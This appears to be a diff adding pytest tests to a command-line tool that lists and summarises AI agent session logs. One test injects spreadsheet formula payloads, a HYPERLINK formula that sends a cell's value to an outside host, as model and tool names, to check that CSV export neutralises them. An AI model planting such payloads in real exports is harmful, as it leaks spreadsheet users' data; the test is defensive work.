@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 from itertools import pairwise
 from pathlib import Path
@@ -9,6 +11,7 @@ from pathlib import Path
 import pytest
 
 from builders import answered, said
+from figures import measured
 from sessile import Library, Store
 from sessions import dumps, header, write_file
 
@@ -157,6 +160,31 @@ def test_statistics_count_and_never_call_the_unknown_nothing(sessile: Command, d
     assert sessile("stats", "projects", "--csv").out.splitlines()[0].startswith("name,sessions")
 
 
+@pytest.mark.promise("P50")
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
+def test_a_name_is_never_a_formula_in_a_table_for_spreadsheets(sessile: Command, home: Path, start: str) -> None:
+    """A model that is named like a formula gets a quote; numbers stay numbers."""
+    name = f'{start}HYPERLINK("http://x/?"&A1,"click")'
+    with Store(home / ".sessile").create("/work/app", publish=True) as session:
+        usage = {"input": 1, "output": 2, "cost": {"total": -0.5}}
+        session.append_message({"role": "assistant", "content": [], "model": name, "usage": usage})
+        session.append_message(
+            {
+                "role": "assistant",
+                "content": [{"type": "toolCall", "id": "t", "name": name, "arguments": {}}],
+                "model": name,
+            }
+        )
+    for table in ("models", "tools", "projects"):
+        _, *rows = csv.reader(io.StringIO(sessile("stats", table, "--csv").out, newline=""))
+        assert rows
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r"))
+                assert not cell.startswith("-") or float(cell) < 0
+        assert table == "projects" or any(row[0].startswith("'") for row in rows)
+
+
 def test_a_damaged_catalog_is_made_anew(sessile: Command, demo: Path, tmp_path: Path) -> None:
     """The listing is unchanged, also with a read-only cache."""
     before = sessile("ls").out
@@ -194,3 +222,54 @@ def test_the_first_listing_of_many_sessions_reads_all_of_them(
     with library:
         assert library.catch_up("look").changed == 0
         assert all(row.counts is not None and row.counts.messages == 400 for row in library.list().rows)
+
+
+@pytest.mark.promise("P49")
+def test_lists_and_statistics_say_what_their_options_exclude(sessile: Command, demo: Path) -> None:
+    """Every selection says how many sessions it leaves out, and how to see them."""
+    everything = sessile("ls", "--json").json
+    project = everything["items"][0]["project"]
+    some = sessile("ls", "-p", project, "--json").json
+    excluded = len(everything["items"]) - len(some["items"])
+    assert (everything["excluded"], some["excluded"]) == (0, excluded) and excluded > 0
+    told = f"… {excluded} excluded by the options. Show: without -p"
+    assert told in sessile("ls", "-p", project).err and "excluded" not in sessile("ls").err
+    assert "excluded by the options. Show: without --since webhook" in sessile("ls", "webhook", "--since", "20y").err
+    for arguments in (["stats", "models"], ["stats", "models", "--csv"]):
+        assert "excluded by the options. Show: without -p" in sessile(*arguments, "-p", project).err
+    assert sessile("stats", "models", "-p", project, "--json").json["excluded"] >= excluded
+    nothing = sessile("ls", "nothing like it", "-p", project).err
+    assert "no session matches" in nothing and "in total (ls -A)" in nothing
+    assert "(without -p)" in sessile("ls", "-p", "/nowhere").err
+    assert "in runs" in sessile("tree", WEBHOOK).out
+
+
+@pytest.mark.long
+@pytest.mark.promise("P49")
+def test_three_thousand_sessions_are_read_the_first_time(home: Path, tmp_path: Path) -> None:
+    """Native and Claude sessions on a cold cache: no command asks to be run again, at a terminal or in a pipe."""
+    native, claude = home / ".sessile" / "sessions" / "--work--", home / ".claude" / "projects" / "-work"
+    for number in range(1500):
+        talk = [said("a", None, "why " * 500), answered("b", "a"), said("c", "b", f"quoll{number}x")] * 20
+        write_file(native / f"2026-01-01T00-00-00-000Z_s{number:04}.jsonl", header(f"s{number:04}"), *talk)
+        session = f"{number:08}-1111-4111-8111-111111111111"
+        rows = [
+            {"type": "user", "uuid": f"u{row}", "parentUuid": f"u{row - 1}" if row else None, "sessionId": session}
+            | {"cwd": "/work", "message": {"role": "user", "content": "why " * 500}}
+            for row in range(30)
+        ]
+        write_file(claude / f"{session}.jsonl", *rows)
+    commands: list[list[str]] = [["ls"], [], ["stats", "--since", "20y"], ["search", "quoll77x"], ["search", "nowhere"]]
+    asked = 0
+    for number, arguments in enumerate(commands):
+        for terminal in (True, False):
+            environment = {"SESSILE_CACHE": str(tmp_path / f"cache{number}{terminal}"), "TERM": "xterm"}
+            if terminal:
+                printed = at_a_terminal(arguments, environment)
+            else:
+                done = apart(tmp_path / "report", *arguments, environment=environment)
+                printed = done.out + done.err
+            asked += "again" in printed or "not fully" in printed or "not counted" in printed
+            assert ("quoll77x" in printed) == (arguments == ["search", "quoll77x"])
+    assert asked == 0
+    measured("P49", "first commands over 3,000 sessions", commands=2 * len(commands), asked_again=asked)
